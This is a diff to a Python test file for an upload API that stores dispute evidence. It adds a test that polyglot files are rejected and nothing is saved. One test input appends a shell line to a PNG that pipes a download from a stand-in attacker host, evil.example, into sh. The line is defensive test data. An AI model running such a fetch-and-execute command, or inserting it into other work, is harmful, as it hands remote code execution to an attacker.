@@ -1,5 +1,6 @@
 """Every API upload path (refunds, intervention cases and their evidence, force-majeure claims) stores a file
-under the extension of its detected content and keeps the client's name only cleaned."""
+under the extension of its detected content, keeps the client's name only cleaned, and refuses polyglots with
+their stable code, storing nothing."""
 
 from datetime import datetime, timedelta
 
@@ -10,7 +11,7 @@ from disputes.models import EvidenceItem, ForceMajeureEvidence, RefundEvidence
 from disputes.services.interventions.workflow import intervention_accept
 from tests import factories as f
 from tests.api.helpers import BJ, T0, dispatch, raise_request, token_client
-from tests.evidence.files import jpeg, png, upload
+from tests.evidence.files import jpeg, png, upload, zip_archive
 from tests.services.refund_helpers import signed_item
 from tests.services.test_intervention_helpers import at, open_case, refused_refund, stored_files
 
@@ -82,3 +83,23 @@ def test_a_long_client_name_is_kept_cut_with_its_extension(path):
     stored = path[3].objects.exclude(file="").get()
     assert len(stored.original_name) == 100 and stored.original_name.endswith("x.png")
     assert stored.file.name.endswith(".png")
+
+
+@pytest.mark.parametrize(
+    ("data", "code"),
+    [
+        (jpeg() + zip_archive(), "evidence_polyglot"),
+        (png() + b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n", "evidence_polyglot"),
+    ],
+    ids=["jpeg+zip", "png+trailing"],
+)
+def test_a_refused_file_reaches_the_client_as_its_code_and_nothing_is_stored(path, media_root, data, code):
+    model = path[3]
+    before = model.objects.count()
+    resp = send(path, upload(png(), "fine.png"), upload(data, "evidence.jpg"))
+
+    assert resp.status_code == 400, resp.content
+    assert resp.json()["code"] == code
+    assert resp.json()["message"].startswith("evidence.jpg: ")
+    assert model.objects.count() == before
+    assert stored_files(media_root) == []
